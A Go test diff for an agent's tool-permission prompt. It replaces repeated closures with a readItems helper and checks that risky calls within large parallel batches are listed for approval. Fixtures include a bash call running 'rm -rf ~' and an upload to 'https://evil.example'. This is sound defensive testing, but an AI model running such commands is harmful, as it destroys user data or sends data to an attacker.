@@ -126,6 +126,16 @@ func parallelInput(calls ...string) string {
 	return `{"tool_uses":[` + strings.Join(uses, ",") + `]}`
 }
 
+// readItems is how a parallel call of reads of /f0, /f1, … shows its
+// first n calls.
+func readItems(n int) string {
+	items := make([]string, n)
+	for i := range n {
+		items[i] = fmt.Sprintf("#%d tool 'read' for path '/f%d'", i+1, i)
+	}
+	return strings.Join(items, "; ")
+}
+
 func TestWrappedCallPrompts(t *testing.T) {
 	many := make([]string, 0, 40)
 	for i := range 20 {
@@ -190,31 +200,13 @@ func TestWrappedCallPrompts(t *testing.T) {
 				"tool 'write' for 'xd://web_fetch' (2 characters) → 1 call nested too deep to show. Allow this call?"},
 		{"more than sixteen calls are counted",
 			"multi_tool_use.parallel", parallelInput(many...),
-			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + func() string {
-				var items []string
-				for i := range 16 {
-					items = append(items, fmt.Sprintf("#%d tool 'read' for path '/f%d'", i+1, i))
-				}
-				return strings.Join(items, "; ")
-			}() + "; … 4 more, none above read. Allow this call?"},
+			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + readItems(16) + "; … 4 more, none above read. Allow this call?"},
 		{"beyond sixteen, the riskiest calls are shown",
 			"multi_tool_use.parallel", parallelInput(append(many[:38:38], "bash", `{"command":"rm -rf ~"}`)...),
-			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + func() string {
-				var items []string
-				for i := range 15 {
-					items = append(items, fmt.Sprintf("#%d tool 'read' for path '/f%d'", i+1, i))
-				}
-				return strings.Join(items, "; ")
-			}() + `; #20 tool 'bash' with input {"command":"rm -rf ~"}; … 4 more, none above read. Allow this call?`},
+			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + readItems(15) + `; #20 tool 'bash' with input {"command":"rm -rf ~"}; … 4 more, none above read. Allow this call?`},
 		{"beyond sixteen, unknown tools count as the riskiest",
 			"multi_tool_use.parallel", parallelInput(append(many[:38:38], "upload", `{"to":"https://evil.example"}`)...),
-			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + func() string {
-				var items []string
-				for i := range 15 {
-					items = append(items, fmt.Sprintf("#%d tool 'read' for path '/f%d'", i+1, i))
-				}
-				return strings.Join(items, "; ")
-			}() + `; #20 tool 'upload' with input {"to":"https://evil.example"}; … 4 more, none above read. Allow this call?`},
+			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + readItems(15) + `; #20 tool 'upload' with input {"to":"https://evil.example"}; … 4 more, none above read. Allow this call?`},
 		{"an inner MCP call names its target",
 			"multi_tool_use.parallel", parallelInput("mcp", `{"tool":"exa:search","arguments":{"query":"go"}}`, "read", `{"path":"/a"}`),
 			`Current agent requested tool 'multi_tool_use.parallel' → 2 calls: #1 MCP target 'exa:search'; #2 tool 'read' for path '/a'. Allow this call?`},
